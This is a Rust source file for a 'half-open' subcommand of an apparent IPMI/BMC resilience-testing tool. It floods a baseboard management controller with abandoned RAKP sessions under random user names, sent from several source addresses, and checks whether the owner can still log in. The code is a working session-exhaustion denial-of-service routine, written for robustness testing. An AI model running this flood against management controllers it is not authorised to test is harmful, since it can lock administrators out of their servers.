//! `half-open`: begins sessions and goes on with none. Whoever owns the BMC must get in all the same.

use std::net::UdpSocket;

use clap::Args;
use outband_protocol::ipmi::{
    Privilege,
    client::{Client, Heard},
    rakp::Name,
};
use serde_json::json;

use crate::{
    Failure, Found,
    console::{DATAGRAM_MAX, PATIENCE, receive},
    dice::Dice,
    owner,
    target::{Sources, Target},
};

/// `half-open`.
#[derive(Debug, Args)]
pub(crate) struct HalfOpen {
    #[command(flatten)]
    target: Target,
    #[command(flatten)]
    sources: Sources,
    /// How many sessions are begun
    #[arg(long, default_value_t = 2000, value_name = "N")]
    count: u64,
    /// How many requests are sent before their answers are awaited
    #[arg(long, default_value_t = 32, value_name = "N", value_parser = clap::value_parser!(u64).range(1..=10_000))]
    burst: u64,
    /// Goes one step further: asks for the proof, under made-up names
    #[arg(long)]
    prove: bool,
}

impl HalfOpen {
    pub(crate) fn run(self) -> Result<Found, Failure> {
        let sockets = self
            .sources
            .all()
            .map(|from| self.target.socket(Some(from)));
        let sockets = sockets.collect::<Result<Vec<_>, _>>()?;
        let (opened, served) = owner::served_while(&self.target, || self.flood(&sockets))?;
        Ok(Found {
            line: json!({
                "mode": "half-open", "sent": self.count, "opened": opened,
                "sources": sockets.len(), "prove": self.prove, "owner": served.line(),
            }),
            good: served.well(),
        })
    }

    /// Sends all requests; gives how many were granted.
    fn flood(&self, sockets: &[UdpSocket]) -> Result<u64, Failure> {
        let (mut dice, mut buffer) = (Dice::of_now(), vec![0; DATAGRAM_MAX]);
        let (mut sent, mut opened) = (0, 0);
        for socket in sockets.iter().cycle() {
            // Shorter than a client waits: an attacker has no need of what was lost.
            socket.set_read_timeout(Some(PATIENCE / 10))?;
            let burst = self.burst.min(self.count - sent);
            if burst == 0 {
                break;
            }
            let strays = (0..burst).map(|_| self.stray(&mut dice));
            let mut strays = strays.collect::<Result<Vec<_>, _>>()?;
            for stray in &strays {
                step(stray, socket)?;
            }
            sent += burst;
            opened += self.answers(&mut strays, socket, &mut buffer)?;
        }
        Ok(opened)
    }

    /// A console under a name that most likely nobody has.
    fn stray(&self, dice: &mut Dice) -> Result<Client, Failure> {
        let mut login = self.target.login(Privilege::Administrator)?;
        login.name = Name::new(&dice.bytes::<8>()).unwrap_or_default();
        Ok(Client::new(login, dice.id(), dice.bytes()))
    }

    /// Waits for the answers; gives how many were granted before none came for a while. Goes one step
    /// on with each, where that is wanted.
    fn answers(
        &self,
        strays: &mut [Client],
        socket: &UdpSocket,
        buffer: &mut [u8],
    ) -> Result<u64, Failure> {
        let mut opened = 0;
        while opened < strays.len() as u64 {
            let Some(length) = receive(socket, buffer)? else {
                break;
            };
            let datagram = buffer.get(..length).unwrap_or_default();
            for stray in &mut *strays {
                if let Some(Heard::Step) = stray.input(&mut datagram.to_vec()) {
                    opened += 1;
                    if self.prove {
                        step(stray, socket)?;
                    }
                }
            }
        }
        Ok(opened)
    }
}

fn step(stray: &Client, socket: &UdpSocket) -> Result<(), Failure> {
    let mut datagram = Vec::new();
    stray.step(&mut datagram);
    socket.send(&datagram)?;
    Ok(())
}
